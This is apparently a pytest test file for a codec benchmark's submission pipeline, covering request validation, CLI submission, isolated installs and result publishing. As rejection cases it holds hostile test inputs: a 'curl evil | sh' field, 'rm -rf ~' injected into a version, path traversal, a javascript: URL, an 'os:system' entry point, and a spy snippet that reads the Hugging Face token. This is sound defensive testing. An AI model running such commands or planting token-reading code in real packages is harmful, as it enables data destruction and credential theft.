"""Submitting a codec: request validation, kodek submit, kodek run-request, publish-results, all offline.

A codec author's package is faked the way pip would install it: a module and a
``.dist-info`` folder (METADATA, entry_points.txt) on ``sys.path``.
"""

from __future__ import annotations

import copy
import importlib
import json
import sys
from pathlib import Path

import pytest
from huggingface_hub import HfApi
from streamlit.testing.v1 import AppTest

from kodek import submissions
from kodek.cli import main
from kodek.submissions import (
    MAX_REQUEST_BYTES,
    parse_request,
    request_from_form,
    request_path,
    validate_request,
)
from kodek.submit import SubmitError
from kodek.submit.publish import publish_results
from kodek.submit.run import install_command, installed_entry, read_request
from leaderboard_fixtures import SCRIPT, main_module_kept, results, shown_tables, write

APP = Path(__file__).resolve().parents[1] / "leaderboard" / "app.py"
registry_module = importlib.import_module("kodek.codecs.registry")

MULAW = '''
import numpy as np

from kodek.codecs import CodecEntry, CodecSpec
from kodek.codecs.base import CodecBase

MU = 255.0
SPEC = CodecSpec("{codec_id}", "g711", "classic", 8000, 8000.0, 1, 256, None, "MIT", description="G.711 mu-law")


class MuLaw(CodecBase):
    """8-bit mu-law companding: one code per sample."""

    def encode(self, waves, lengths):
        x = np.clip(waves, -1.0, 1.0)
        y = np.sign(x) * np.log1p(MU * np.abs(x)) / np.log1p(MU)
        codes = np.clip(np.round((y + 1) / 2 * 255), 0, 255).astype(np.int64)
        codes = codes + {batch_bug} * (len(waves) > 1) * (codes < 255)  # a codec that batching changes
        return codes[:, None, :], self.frame_lengths(lengths)

    def decode(self, codes, frame_lengths):
        y = codes[:, 0, :].astype(np.float64) / 255 * 2 - 1
        x = np.sign(y) * np.expm1(np.abs(y) * np.log1p(MU)) / MU
        return x.astype(np.float32), self.sample_lengths(frame_lengths)


def build(spec, *, random_weights=False, seed=0):
    return MuLaw(spec, random_weights=random_weights, seed=seed)


def entries():
    return [CodecEntry(SPEC, "{module}:build")]
'''


def install_plugin(folder: Path, monkeypatch, *, codec_id="plug-mulaw", dist="kodek-mulaw", version="1.0.2", bug=0):
    """What ``pip install kodek-mulaw==1.0.2`` would leave on sys.path."""
    module = dist.replace("-", "_") + f"_{bug}"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{module}.py").write_text(MULAW.format(codec_id=codec_id, module=module, batch_bug=bug))
    info = folder / f"{dist.replace('-', '_')}-{version}.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {dist}\nVersion: {version}\n")
    (info / "entry_points.txt").write_text(f"[kodek.codecs]\n{codec_id} = {module}:entries\n")
    monkeypatch.syspath_prepend(str(folder))
    registry_module.reset_registry()


@pytest.fixture(autouse=True)
def _keep_main_module():
    with main_module_kept():
        yield


@pytest.fixture(autouse=True)
def fresh_registry():
    registry_module.reset_registry()
    yield
    registry_module.reset_registry()


def good_request(**changes) -> dict:
    data = {
        "request_version": 1,
        "codec_id": "plug-mulaw",
        "package": "kodek-mulaw",
        "version": "1.0.2",
        "checkpoint": {"repo": "someone/mulaw", "revision": "0123456789abcdef0123456789abcdef01234567"},
        "license": "MIT",
        "contact": "author@example.org",
    }
    data.update(changes)
    return data


# -- the request validator ---------------------------------------------------------------------------------


def test_a_good_request_is_valid():
    assert validate_request(good_request()) == []
    assert validate_request(good_request(contact="@someone", checkpoint=None)) == []
    assert validate_request(good_request(contact="https://example.org/codec")) == []


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"codec_id": "../../etc/passwd"}, "codec_id"),
        ({"codec_id": "a/b"}, "codec_id"),
        ({"codec_id": ".."}, "codec_id"),
        ({"codec_id": "Mu-Law"}, "codec_id"),
        ({"codec_id": "x" * 81}, "codec_id"),
        ({"codec_id": ""}, "codec_id"),
        ({"package": "../evil"}, "package"),
        ({"version": "1.0; rm -rf ~"}, "version"),
        ({"contact": SCRIPT}, "contact"),
        ({"contact": "javascript:alert(1)"}, "contact"),
        ({"contact": "a" * 190 + "@example.org"}, "contact"),
        ({"license": "MIT\nINJECTED"}, "license"),
        ({"description": "x" * 2001}, "description"),
        ({"description": "colour \x1b[31m codes"}, "description"),
        ({"checkpoint": {"repo": "someone/mulaw", "revision": "main"}}, "checkpoint"),
        ({"checkpoint": {"repo": "../../x", "revision": "0" * 40}}, "checkpoint"),
        ({"run": "curl evil | sh"}, "Additional properties are not allowed"),
        ({"request_version": 2}, "request_version"),
        ({"codec_id": "opus-6kbps"}, "a codec kodek already has"),
    ],
)
def test_malformed_requests_are_rejected(changes, expected):
    errors = validate_request(good_request(**changes), taken=submissions.builtin_codec_ids())
    assert errors and any(expected in e for e in errors), errors
    assert all(len(e) < 200 for e in errors)  # a huge value is never echoed in full


def test_missing_fields_and_oversize_requests_are_rejected():
    data = good_request()
    del data["contact"]
    assert any("'contact' is a required property" in e for e in validate_request(data))
    huge = good_request(spec={**results(0)["codec"], "id": "plug-mulaw", "options": {"x": "a" * MAX_REQUEST_BYTES}})
    assert validate_request(huge)[0].startswith("<root>: request is")
    content, errors = parse_request(b" " * (MAX_REQUEST_BYTES + 1))
    assert content is None and "more than the" in errors[0]
    assert parse_request(b"{not json")[1][0].startswith("<root>: not valid JSON")
    assert parse_request(json.dumps(good_request()).encode())[0]["codec_id"] == "plug-mulaw"


def test_a_spec_must_name_the_requested_id():
    spec = {**results(0)["codec"], "id": "other-codec"}
    assert any("differs from codec_id" in e for e in validate_request(good_request(spec=spec)))


def test_request_paths_cannot_leave_the_requests_folder():
    assert request_path("plug-mulaw") == "requests/plug-mulaw.json"
    for bad in ("../x", "a/b", "", "..", "UPPER"):
        with pytest.raises(ValueError):
            request_path(bad)


def test_a_form_request_is_built_from_its_fields():
    data = request_from_form(
        {"codec_id": " plug-mulaw ", "package": "kodek-mulaw", "version": "1.0.2", "license": "MIT", "contact": "@me"},
        kodek_version="0.1.0",
        date="2026-01-01",
    )
    assert data["codec_id"] == "plug-mulaw" and data["checkpoint"] is None and data["submitted_via"] == "space"
    assert validate_request(data) == []


# -- kodek submit ------------------------------------------------------------------------------------------------


def test_submit_checks_the_codec_and_writes_a_request(tmp_path, monkeypatch, capsys):
    install_plugin(tmp_path / "site", monkeypatch)
    out = tmp_path / "request.json"
    code = main(["submit", "--codec", "plug-mulaw", "--contact", "author@example.org", "--out", str(out)])
    printed = capsys.readouterr().out
    assert code == 0, printed
    for check in ("spec facts", "build", "round trip on the bundled sample", "batched == one-by-one"):
        assert f"[ok] {check}" in printed
    request = json.loads(out.read_text())
    assert validate_request(request) == []
    assert (request["package"], request["version"]) == ("kodek-mulaw", "1.0.2")
    assert request["entry_point"] == "plug-mulaw = kodek_mulaw_0:entries"
    assert request["spec"]["bitrate_bps"] == 64_000 and request["submitted_via"] == "cli"
    assert all(check["passed"] for check in request["checks"].values())


def test_submit_refuses_a_codec_that_batching_changes(tmp_path, monkeypatch, capsys):
    install_plugin(tmp_path / "site", monkeypatch, codec_id="mulaw-buggy", bug=1)
    out = tmp_path / "request.json"
    code = main(["submit", "--codec", "mulaw-buggy", "--contact", "author@example.org", "--out", str(out)])
    err = capsys.readouterr().err
    assert code == 2 and "did not pass the local checks" in err and "[FAILED] batched == one-by-one" in err
    assert not out.exists()


def test_submit_refuses_kodek_s_own_codecs(tmp_path, capsys):
    assert main(["submit", "--codec", "opus-6kbps", "--contact", "a@example.org", "--out", str(tmp_path / "r")]) == 2
    assert "built into kodek" in capsys.readouterr().err


def test_run_request_checks_the_installed_package(tmp_path, monkeypatch):
    install_plugin(tmp_path / "site", monkeypatch)
    request = good_request(checkpoint=None)
    assert installed_entry(request).spec.id == "plug-mulaw"
    with pytest.raises(SubmitError, match=r"kodek-mulaw 1\.0\.2 is installed; the request names 9\.9"):
        installed_entry({**request, "version": "9.9"})
    with pytest.raises(SubmitError, match="registered by 'kodek-mulaw', not by 'someone-else'"):
        installed_entry({**request, "package": "someone-else"})
    spec = json.loads(registry_module.get_spec("plug-mulaw").to_json())
    with pytest.raises(SubmitError, match="differs from the request's in: frame_rate"):
        installed_entry({**request, "spec": {**spec, "frame_rate": 16000.0}})
    with pytest.raises(SubmitError, match="not registered here: install other==1"):
        installed_entry({**request, "codec_id": "other", "package": "other", "version": "1"})
    assert install_command(request)[-3:] == ["pip", "install", "kodek-mulaw==1.0.2"]
    assert install_command(request)[0] == sys.executable


def test_from_entry_point_to_a_leaderboard_row(tmp_path, monkeypatch, hub, capsys):
    """The whole submission path, offline: kodek submit -> pull request -> kodek run-request -> the leaderboard."""
    install_plugin(tmp_path / "site", monkeypatch)
    monkeypatch.setenv("HF_TOKEN", "t")
    requests_repo, results_repo = "kodek-test/requests-flow", "kodek-test/results-flow"
    command = ["submit", "--codec", "plug-mulaw", "--contact", "@author", "--out", str(tmp_path / "r.json")]
    assert main([*command, "--repo", requests_repo]) == 0
    assert "opened as a pull request" in capsys.readouterr().out
    request = read_request("", repo=requests_repo, pr=1, token="t")
    assert request["codec_id"] == "plug-mulaw"

    results_dir = tmp_path / "results"
    command = ["run-request", "--repo", requests_repo, "--pr", "1", "--data", "sample", "--workers", "1"]
    command += ["--results", str(results_dir), "--tokens", str(tmp_path / "tokens"), "--publish", results_repo]
    assert main(command) == 0, capsys.readouterr().err
    printed = capsys.readouterr().out
    assert "[ok] batched == one-by-one" in printed and f"{results_repo}: published" in printed
    written = json.loads((results_dir / "plug-mulaw" / "reconstruction.json").read_text())
    assert written["request"]["package"] == "kodek-mulaw" and written["request"]["version"] == "1.0.2"
    assert written["metrics"]["pesq_wb"]["rec"]["mean"] > 2.5  # 8 kHz G.711, scored wide-band at 16 kHz
    files = HfApi(token="t").list_repo_files(results_repo, repo_type="dataset")
    assert "plug-mulaw/reconstruction.json" in files and any(f.startswith("plug-mulaw/audio/") for f in files)

    monkeypatch.delenv("KODEK_RESULTS", raising=False)
    monkeypatch.setenv("KODEK_RESULTS_REPO", results_repo)
    registry_module.reset_registry()
    app = AppTest.from_file(str(APP), default_timeout=60).run()
    assert not app.exception
    table = shown_tables(app)[0]
    assert list(table["Codec"]) == ["plug-mulaw"] and table["Category"].iloc[0] == "Classic Codec"
    assert registry_module._REGISTRY is None  # the page built no codec registry: it ran no plugin code
    assert not hub.unhandled


def test_run_request_refuses_a_pull_request_with_several_requests(hub, tmp_path):
    api = HfApi(token="t")
    api.create_repo("kodek-test/requests-two", repo_type="dataset")
    from huggingface_hub import CommitOperationAdd

    operations = [
        CommitOperationAdd(f"requests/{name}.json", json.dumps(good_request(codec_id=name)).encode())
        for name in ("one-codec", "two-codec")
    ]
    api.create_commit("kodek-test/requests-two", operations, commit_message="two", repo_type="dataset", create_pr=True)
    with pytest.raises(SubmitError, match="changes 2 request files"):
        read_request("", repo="kodek-test/requests-two", pr=1, token="t")
    with pytest.raises(SubmitError, match="--pr"):
        read_request("", repo="kodek-test/requests-two", token="t")


def test_a_request_file_is_validated_before_anything_runs(tmp_path):
    path = tmp_path / "request.json"
    path.write_text(json.dumps(good_request(codec_id="../../etc")))
    with pytest.raises(SubmitError, match="invalid request"):
        read_request(str(path))
    with pytest.raises(SubmitError, match="cannot read the request"):
        read_request(str(tmp_path / "missing.json"))


# -- kodek publish-results ------------------------------------------------------------------------------------------


def test_publish_results_refuses_invalid_and_random_weight_results(tmp_path, hub):
    good = results(0)
    write(tmp_path, f"{good['codec']['id']}/reconstruction.json", good)
    random_run = copy.deepcopy(results(1))
    random_run["random_weights"] = True
    write(tmp_path, f"{random_run['codec']['id']}/reconstruction.json", random_run)
    with pytest.raises(SubmitError, match="random-weight results are pipeline checks"):
        publish_results(tmp_path, "kodek-test/results-refused", token="t")
    write(tmp_path, "broken/reconstruction.json", "{")
    with pytest.raises(SubmitError, match=r"broken/reconstruction\.json: unreadable"):
        publish_results(tmp_path, "kodek-test/results-refused", token="t")
    with pytest.raises(SubmitError, match="no results for nothing-here"):
        publish_results(tmp_path, "kodek-test/results-refused", codecs=["nothing-here"], token="t")
    done = publish_results(tmp_path, "kodek-test/results-refused", codecs=[good["codec"]["id"]], token="t")
    files = HfApi(token="t").list_repo_files("kodek-test/results-refused", repo_type="dataset")
    assert done.changed and f"{good['codec']['id']}/reconstruction.json" in files
    assert not any(f.startswith(("broken/", random_run["codec"]["id"])) for f in files)


# -- run-request --install: an isolated environment, without the maintainer's credentials ---------------------

SPY = """
import json as _json
import os as _os

if _os.environ.get("KODEK_TEST_SPY"):  # what the submission's code could see of the maintainer's Hub login
    from huggingface_hub import get_token as _get_token

    with open(_os.environ["KODEK_TEST_SPY"], "w") as _spy:
        _json.dump({"HF_TOKEN": _os.environ.get("HF_TOKEN"), "token": _get_token()}, _spy)
"""


def build_wheel(folder: Path, *, codec_id="plug-mulaw", dist="kodek-mulaw", version="1.0.2") -> Path:
    """The wheel an author would upload: the mu-law codec module and its entry point (plus a spy)."""
    import zipfile

    module, stem = dist.replace("-", "_") + "_0", dist.replace("-", "_")
    info = f"{stem}-{version}.dist-info"
    files = {
        f"{module}.py": MULAW.format(codec_id=codec_id, module=module, batch_bug=0) + SPY,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {dist}\nVersion: {version}\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: kodek-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{info}/entry_points.txt": f"[kodek.codecs]\n{codec_id} = {module}:entries\n",
    }
    files[f"{info}/RECORD"] = "".join(f"{name},,\n" for name in [*files, f"{info}/RECORD"])
    folder.mkdir(parents=True, exist_ok=True)
    wheel = folder / f"{stem}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return wheel


def test_the_request_entry_point_must_be_the_installed_distributions_own(tmp_path, monkeypatch):
    install_plugin(tmp_path / "site", monkeypatch)
    request = good_request(checkpoint=None)
    assert installed_entry({**request, "entry_point": "plug-mulaw = kodek_mulaw_0:entries"}).spec.id == "plug-mulaw"
    with pytest.raises(SubmitError, match=r"entry point 'x = os:system' is not one kodek-mulaw declares"):
        installed_entry({**request, "entry_point": "x = os:system"})


def test_run_request_install_isolates_the_submission_from_the_maintainer(tmp_path, monkeypatch, capsys):
    import importlib.metadata

    wheels = build_wheel(tmp_path / "wheels").parent
    install_plugin(tmp_path / "site", monkeypatch)  # only to write the author's request
    command = ["submit", "--codec", "plug-mulaw", "--contact", "@author", "--out", str(tmp_path / "r.json")]
    assert main(command) == 0
    request = json.loads((tmp_path / "r.json").read_text())
    assert request["entry_point"] == "plug-mulaw = kodek_mulaw_0:entries"
    monkeypatch.syspath_prepend(str(tmp_path / "nothing"))
    sys.path.remove(str(tmp_path / "site"))
    registry_module.reset_registry()
    capsys.readouterr()

    spy = tmp_path / "spy.json"
    monkeypatch.setenv("HF_TOKEN", "maintainer-secret")
    monkeypatch.setenv("KODEK_TEST_SPY", str(spy))
    monkeypatch.setenv("KODEK_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("PIP_NO_INDEX", "1")  # the wheel is the only package index
    monkeypatch.setenv("PIP_FIND_LINKS", str(wheels))
    results = tmp_path / "results"
    command = ["run-request", str(tmp_path / "r.json"), "--install", "--data", "sample", "--limit", "2"]
    command += ["--workers", "1", "--listen", "0", "--results", str(results), "--tokens", str(tmp_path / "tokens")]
    assert main(command) == 0, capsys.readouterr().err
    assert "[ok] entry point: kodek-mulaw 1.0.2: plug-mulaw = kodek_mulaw_0:entries" in capsys.readouterr().out
    written = json.loads((results / "plug-mulaw" / "reconstruction.json").read_text())
    assert written["request"]["entry_point"] == request["entry_point"] and written["dataset"]["utterances"] == 2
    assert json.loads(spy.read_text()) == {"HF_TOKEN": None, "token": None}  # no credential reached its code
    with pytest.raises(importlib.metadata.PackageNotFoundError):
        importlib.metadata.distribution("kodek-mulaw")  # nothing installed into the maintainer's environment

    (tmp_path / "r.json").write_text(json.dumps({**request, "version": "9.9"}))
    assert main(command) == 2
    err = capsys.readouterr().err
    assert err.startswith("kodek: error: installing kodek-mulaw==9.9 failed:") and err.count("\n") == 1
